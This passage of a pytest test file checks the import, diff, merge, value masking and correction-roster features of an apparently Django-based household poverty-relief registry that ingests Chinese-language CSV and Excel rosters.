    shape, before = schema(), snapshot()
    members_before = Member.objects.count()
    if crash:
        real = merge_module.copy_frame

        def crash_on_audit(model, frame, **kwargs):
            if model is ChangeRecord:
                raise RuntimeError("killed")
            return real(model, frame, **kwargs)

        monkeypatch.setattr(merge_module, "copy_frame", crash_on_audit)
        with pytest.raises(services.ImportRefused, match="killed"):
            services.merge_batch(actor=None, batch_id=batch.pk)
        assert snapshot() == before
    else:
        batch = services.merge_batch(actor=None, batch_id=batch.pk)
        assert batch.rows_imported == 9 and Member.objects.count() == members_before + 9
    assert schema() == shape


@pytest.mark.parametrize("rejected", ["none", "a one-person household by the check", "a household by the diff"])
def test_an_unchanged_registry_merges_the_reviewed_diff_without_diffing_again(tmp_path, monkeypatch, rejected,
                                                                            make_household):
    """Also when rows were rejected: the fingerprint taken at review covers exactly what the merge
    reads (the registry side of the diff's rows)."""
    rows = new_rows(2)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    changed = rows.with_columns(pl.lit("13700000000").alias("联系电话"))
    if rejected == "a one-person household by the check":  # holding the ID of a person registered elsewhere
        registered = Member.objects.filter(household=make_household()).first().id_number
        changed = pl.concat([changed, new_rows(1, start=90101).head(1).with_columns(
            pl.lit(registered).alias("证件号码"), pl.lit("因穷").alias("主要致贫原因"))])
    elif rejected == "a household by the diff":
        changed = pl.concat([changed, new_rows(1, start=90102).with_columns(pl.lit("户主").alias("与户主关系"))])
    batch = run(write_csv(changed, tmp_path / "v2.csv"))
    assert batch.status == BatchStatus.REVIEW
    assert batch.rows_rejected == {"none": 0, "a one-person household by the check": 1}.get(rejected, 3)

    def no_second_diff(*args, **kwargs):
        raise AssertionError("diffed again although the registry did not change")

    monkeypatch.setattr(services, "diff_checked", no_second_diff)
    batch = services.merge_batch(actor=None, batch_id=batch.pk)
    assert batch.status == BatchStatus.MERGED and batch.households_changed == 2
    assert set(Household.objects.filter(household_number__in=rows["户编号"].unique().to_list())
               .values_list("phone", flat=True)) == {"13700000000"}


def test_a_change_that_bumps_no_version_still_forces_a_new_diff(tmp_path, make_household):
    """The fingerprint covers the compared values themselves, not only versions."""
    rows = new_rows(1)
    import_file(write_csv(rows, tmp_path / "v1.csv"))
    batch = run(write_csv(rows.with_columns(pl.lit("13700000000").alias("联系电话")), tmp_path / "v2.csv"))
    Household.objects.filter(household_number=rows["户编号"][0]).update(address="新地址")  # not a roster column
    batch = services.merge_batch(actor=None, batch_id=batch.pk)  # unaffected: merged as reviewed
    assert batch.status == BatchStatus.MERGED
    batch2 = run(write_csv(rows.with_columns(pl.lit("13800000000").alias("联系电话")), tmp_path / "v3.csv"))
    Household.objects.filter(household_number=rows["户编号"][0]).update(phone="13800000000")  # a roster column
    with pytest.raises(services.ImportRefused, match="重新校验"):
        services.merge_batch(actor=None, batch_id=batch2.pk)


def test_the_report_masks_rejected_values_as_the_page_does():
    rows = [("证件号码", "350421196001011234"), ("证件号码", "3.50421E+17"), ("银行账号", "6228480012345678"),
            ("姓名", "张三"), ("证件号码", ""), ("", "同户")]
    frame = pl.DataFrame(rows, schema={"column": pl.Utf8, "value": pl.Utf8}, orient="row")
    column_wise = services.masked_rejections(frame).get_column("value").to_list()
    one_by_one = [services.rejection_value(c, v, full=False) for c, v in rows]
    assert column_wise == one_by_one == ["3504**********1234", "3.50***E+17",
                                         "************5678", "张三", "", "同户"]
    assert [services.rejection_value(c, v, full=True) for c, v in rows] == [v for _, v in rows]


def _wrong_check_char(id_number: str) -> str:
    return id_number[:17] + ("1" if id_number[17] != "1" else "2")


def test_rejected_rows_come_back_as_a_roster_to_correct_and_import_again(tmp_path):
    """待改正的行: the rejected rows as the file held them, with their reasons; corrected in the file
    itself and imported again, they are imported and nothing else changes."""
    rows = new_rows(3)
    numbers = rows["户编号"].unique(maintain_order=True).to_list()
    good_id = rows.filter(pl.col("户编号") == numbers[1])["证件号码"][1]
    bad = rows.with_columns(
        pl.when(pl.col("证件号码") == good_id).then(pl.lit(_wrong_check_char(good_id))).otherwise(pl.col("证件号码"))
        .alias("证件号码"),
        pl.when(pl.col("户编号") == numbers[2]).then(pl.lit("2999")).otherwise(pl.col("识别年度").cast(pl.Utf8))
        .alias("识别年度"),
    )
    batch = import_file(write_csv(bad, tmp_path / "v1.csv"))
    assert (batch.rows_imported, batch.rows_rejected, batch.households_new) == (3, 6, 1)

    fix = services.rows_to_fix(batch, full=True)
    assert fix.columns[:2] == ["原行号", "错误原因"] and "证件号码" in fix.columns and "备注" not in fix.columns
    assert fix["原行号"].to_list() == list(range(5, 11))  # header row 1, data from row 2: households 2 and 3
    assert fix["户编号"].to_list() == [numbers[1]] * 3 + [numbers[2]] * 3
    assert fix["证件号码"][1] == _wrong_check_char(good_id)  # as the file held it
    assert fix["错误原因"][1].startswith("证件号码: ")
    assert all(r.startswith("识别年度: ") for r in fix["错误原因"][3:])

    content, n = services.rows_to_fix_xlsx(batch, full=True)
    path = tmp_path / "待改正.xlsx"
    path.write_bytes(content)
    sheet = fastexcel.read_excel(str(path)).load_sheet("花名册", dtypes="string").to_polars()
    assert n == sheet.height == 6
    # with the template's drop-downs and prompts on the roster columns it has, for the correction
    shown = workbook_help(content)
    assert shown.hidden_sheets == ["代码表"]
    assert set(shown.by_header) == {h.column for h in roster_help.roster_helps(fix.columns)}
    assert "与户主关系" in shown.by_header and shown.by_header["与户主关系"].values[0] == "户主"
    # and the 乡镇/行政村 names of the batch's region (the city), in code order
    from fupin.regions.models import Region

    village = Region.objects.get(code=first_village(MINGXI, 2))
    assert village.name in shown.by_header["行政村"].values
    assert "雪峰镇" in shown.by_header["乡镇"].values
    assert len(shown.by_header["乡镇"].values) == Region.objects.filter(level=4, code__startswith="3504").count()
    # The same file imported as it is: the same rows rejected, the extra columns ignored.
    again = run(path)
    assert (again.rows_read, again.rows_rejected) == (6, 6)
    services.refuse_batch(actor=None, batch_id=again.pk, comment="not corrected yet")
    # Corrected in the file itself (the two cells), then imported: both households come in.
    corrected = sheet.with_columns(
        pl.when(pl.col("证件号码") == _wrong_check_char(good_id)).then(pl.lit(good_id)).otherwise(pl.col("证件号码"))
        .alias("证件号码"), pl.lit("2016").alias("识别年度"))
    fixed_path = tmp_path / "已改正.xlsx"
    fixed_path.write_bytes(xlsx_bytes(corrected, sheet="花名册"))
    fixed = import_file(fixed_path)
    assert (fixed.rows_read, fixed.rows_imported, fixed.rows_rejected, fixed.households_new) == (6, 6, 0, 2)
    assert Household.objects.filter(household_number__in=numbers).count() == 3

    masked = services.rows_to_fix(batch, full=False)
    assert masked["证件号码"][0] == fix["证件号码"][0][:4] + "*" * 10 + fix["证件号码"][0][-4:]


def test_rows_to_fix_are_refused_when_the_landed_file_changed(tmp_path):
    rows = new_rows(1)
    batch = run(write_csv(rows.with_columns(pl.lit("abc").alias("识别年度")), tmp_path / "v1.csv"))
    Path(batch.stored_path).write_bytes(b"changed")
    with pytest.raises(services.ImportRefused, match="SHA-256"):
        services.rows_to_fix(batch, full=True)
    Path(batch.stored_path).unlink()
    with pytest.raises(services.ImportRefused, match="not in the data folder"):
        services.rows_to_fix(batch, full=True)
